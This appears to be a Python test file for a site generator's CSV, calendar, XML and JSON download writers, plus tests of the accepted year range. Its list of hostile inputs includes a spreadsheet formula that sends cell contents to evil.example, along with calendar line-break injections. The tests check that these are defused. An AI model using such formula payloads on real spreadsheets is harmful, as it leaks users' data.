"""The download writers (generator/site/writers.py), read back by real parsers,
and the extremes of the years the chronicle accepts, built by MkDocs."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET

import feedparser
import icalendar
import jsonschema
import pandas
import pytest

from generator.content.json_schema import json_schema
from generator.content.vocabulary import (
    BOUNDED_DATE_PATTERN,
    DATE_PATTERN,
    YEAR_MAX,
    YEAR_MIN,
    YEAR_PATTERN,
)
from generator.site.writers import (
    csv_cell,
    csv_text,
    ics_fold,
    ics_lines,
    ics_text,
    json_text,
    xml_text,
)
from tests.conftest import FIXTURE, build_with_mkdocs

HOSTILE_TEXTS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",  # a full-width '='
    "line one\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "lone\rcarriage return",
    "separators\u2028and\u2029and\x85next line",
    "controls \x00\x01\x1b[31m\x7f\x9f",
    "non-characters \ufffe\uffff\ufdd0\U0001fffe",
    'a; b, c\\ d "quoted" <tag> & more',
    "\u0645\u06cc\u200c\u062e\u0627\u0646\u0647 " * 20,  # Persian, folded inside characters
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),  # a plain number: no spreadsheet reads it as a formula
        ("-12.5", "-12.5"),
        ("-2+3", "'-2+3"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\uff20x", "'\uff20x"),
        ("plain = text", "plain = text"),
        ("", ""),
        (None, ""),
        (7, "7"),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_csv_is_read_back_with_every_value_and_no_formula():
    rows = [{"text": t, "n": str(i)} for i, t in enumerate(HOSTILE_TEXTS)]
    text = csv_text(["text", "n"], rows)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == ["text", "n"] and len(read) == 1 + len(rows)
    for (cell, n), row in zip(read[1:], rows, strict=True):
        assert n == row["n"]
        assert cell == csv_cell(row["text"])
        assert cell.removeprefix("'") == row["text"]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))
    frame = pandas.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert frame["text"].tolist() == [r[0] for r in read[1:]]


def test_ics_text_can_never_end_its_line():
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//test//EN"]
    for i, text in enumerate(HOSTILE_TEXTS):
        lines += [
            "BEGIN:VEVENT",
            f"UID:{i}@test",
            "DTSTAMP:20240101T000000Z",
            "DTSTART;VALUE=DATE:20240101",
            f"SUMMARY:{ics_text(text)}",
            f"DESCRIPTION:{ics_text(text)}",
            "END:VEVENT",
        ]
    lines.append("END:VCALENDAR")
    out = ics_lines(lines)
    physical = out.split("\r\n")
    assert physical[-1] == "" and all(len(p.encode("utf-8")) <= 75 for p in physical)
    assert "\n" not in out.replace("\r\n", "") and "\r" not in out.replace("\r\n", "")
    events = icalendar.Calendar.from_ical(out).walk("VEVENT")
    assert [str(e["UID"]) for e in events] == [f"{i}@test" for i in range(len(HOSTILE_TEXTS))]
    assert sorted({k for e in events for k in e}) == [
        "DESCRIPTION", "DTSTAMP", "DTSTART", "SUMMARY", "UID"
    ]  # fmt: skip
    summaries = [str(e["SUMMARY"]) for e in events]
    assert summaries[8] == "line one\nEND:VEVENT\nBEGIN:VEVENT"
    assert summaries[9] == "lone\ncarriage return"
    assert summaries[10] == "separators\nand\nand\nnext line"
    assert summaries[11] == "controls [31m"
    assert summaries[12] == "non-characters "
    assert summaries[13] == 'a; b, c\\ d "quoted" <tag> & more'
    assert summaries[14] == HOSTILE_TEXTS[14]


def test_ics_lines_refuse_a_raw_line_break():
    with pytest.raises(ValueError, match="line break"):
        ics_lines(["SUMMARY:a\nb"])


def test_ics_fold_never_splits_a_character():
    line = "SUMMARY:" + "\u00e9" * 100
    folded = ics_fold(line).split("\r\n ")
    assert "".join(folded) == line
    assert all(len(p.encode("utf-8")) <= (75 if i == 0 else 74) for i, p in enumerate(folded))


def test_xml_text_is_always_well_formed():
    for text in HOSTILE_TEXTS:
        document = f'<feed a="{xml_text(text)}"><title>{xml_text(text)}</title></feed>'
        root = ET.fromstring(document.encode("utf-8"))
        shown = root.find("title").text or ""
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", shown)
    assert xml_text("a\x01b\ufffec <&>") == "abc &lt;&amp;&gt;"


def test_json_text_escapes_the_separators():
    text = json_text({"a": "x\u2028y\u2029z\x01"})
    assert "\u2028" not in text and "\u2029" not in text
    assert json.loads(text) == {"a": "x\u2028y\u2029z\x01"}


# --- the years the chronicle accepts --------------------------------------------------------


def test_the_year_pattern_matches_exactly_the_years_of_the_range():
    pattern = re.compile(YEAR_PATTERN + r"\Z")
    accepted = [y for y in range(10_000) if pattern.match(f"{y:04d}")]
    assert accepted == list(range(YEAR_MIN, YEAR_MAX + 1))


@pytest.mark.parametrize(
    ("date", "valid"),
    [
        ("1000", True),
        ("2999-12-31", True),
        (1000, True),
        (2999, True),
        ("0999", False),
        ("0000", False),
        ("3000-01", False),
        ("9999-12-31", False),
        (999, False),
        (3000, False),
        ("after 2024-06", True),
        ("before 0999", False),
        ("after 3000", False),
    ],
)
def test_the_published_schema_declares_the_years(date, valid):
    schema = json_schema("source")
    # A source's date may be a limit ("after 2024-06"): the same years, with a bound word.
    assert schema["properties"]["date"]["anyOf"][0]["pattern"] == BOUNDED_DATE_PATTERN
    assert BOUNDED_DATE_PATTERN.endswith(DATE_PATTERN[1:])
    entry = {"publisher": "P", "title": "T", "date": date, "language": "en"}
    errors = list(jsonschema.Draft202012Validator(schema).iter_errors(entry))
    assert not errors if valid else errors


EXTREMES = {
    "events/1000/1000-first-year.md": """---
title: An event of the first year
summary: Known only to the year.
date: 1000
type: battles
actors: [army]
locations: [north-town]
sources: [oldest-source]
claims:
  - about: Losses in the first year
    by: army
    says: Ten were killed.
    figure: 10
    of: killed
    source: oldest-source
    date: "1000"
---
The first year[^oldest-source].
""",
    "events/1000/1000-01-01-first-day.md": """---
title: An event of the first day
summary: Known to the day.
date: "1000-01-01"
type: battles
actors: [army]
locations: [north-town]
sources: [oldest-source]
---
The first day[^oldest-source].
""",
    "events/2999/2999-12-last-month.md": """---
title: An event of the last month, to the last day
summary: Known to the month, ending on the last day.
date: "2999-12"
end: "2999-12-31"
type: battles
actors: [army]
locations: [north-town]
sources: [newest-source]
claims:
  - about: Losses in the last month
    by: rebels
    says: Twelve were killed.
    figure: 12
    of: killed
    source: newest-source
    date: "2999-12-31"
---
The last month[^newest-source].
""",
    "events/2999/2999-last-year.md": """---
title: An event of the last year
summary: Known only to the year.
date: 2999
type: protests
actors: [rebels]
locations: [river-post]
sources: [newest-source]
---
The last year[^newest-source].
""",
    "sources/oldest-source.md": """---
publisher: The oldest chronicle
title: A chronicle of the year 1000
date: "1000"
language: en
url: https://example.org/oldest
---
""",
    "sources/newest-source.md": """---
publisher: The newest chronicle
title: A chronicle of the last day
date: "2999-12-31"
language: en
url: https://example.org/newest
---
""",
}


def test_the_extremes_of_the_years_build(tmp_path):
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    for rel, text in EXTREMES.items():
        (content / rel).parent.mkdir(parents=True, exist_ok=True)
        (content / rel).write_text(text, encoding="utf-8")
    site = tmp_path / "site"
    done = build_with_mkdocs(content, site)
    assert done.returncode == 0, done.stderr
    feed = feedparser.parse((site / "feed.xml").read_text("utf-8"))
    assert not feed.bozo, feed.get("bozo_exception")
    stamps = {e.title: (e.published, e.updated) for e in feed.entries}
    assert stamps["An event of the first year"] == ("1000-01-01T00:00:00Z", "1000-01-01T00:00:00Z")
    assert stamps["An event of the last month, to the last day"] == (
        "2999-12-01T00:00:00Z",
        "2999-12-31T00:00:00Z",
    )
    assert feed.feed.updated == "2999-12-31T00:00:00Z"
    calendar = icalendar.Calendar.from_ical((site / "data/events.ics").read_bytes())
    spans = {
        str(e["SUMMARY"]): (e["DTSTART"].to_ical().decode(), e["DTEND"].to_ical().decode())
        for e in calendar.walk("VEVENT")
    }
    assert spans["An event of the first year"] == ("10000101", "10010101")
    assert spans["An event of the first day"] == ("10000101", "10000102")
    assert spans["An event of the last month, to the last day"] == ("29991201", "30000101")
    assert spans["An event of the last year"] == ("29990101", "30000101")
    events = pandas.read_csv(site / "data/events.csv", dtype=str, keep_default_na=False)
    assert {"1000-01-01", "2999-12-01", "2999-01-01"} <= set(events["event_date"])
    assert {"day", "month", "year"} <= set(events["date_precision"])
    records = json.loads((site / "data/events.json").read_text("utf-8"))
    assert records["newest_date"] == "2999-12-31"
    chart = (site / "chronicle/index.html").read_text("utf-8")
    assert 'id="y1000-m00"' in chart or "#y1000-m00" in chart
    assert "#y2999-m12" in chart


def test_the_extremes_of_the_years_split_into_year_pages(tmp_path):
    from generator.content.index import build_chronicle
    from generator.site.render import render_pages

    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    for rel, text in EXTREMES.items():
        (content / rel).parent.mkdir(parents=True, exist_ok=True)
        (content / rel).write_text(text, encoding="utf-8")
    urls = {p.url for p in render_pages(build_chronicle(content), list_limit=2)}
    assert {"chronicle/1000/", "chronicle/2024/", "chronicle/2999/"} <= urls
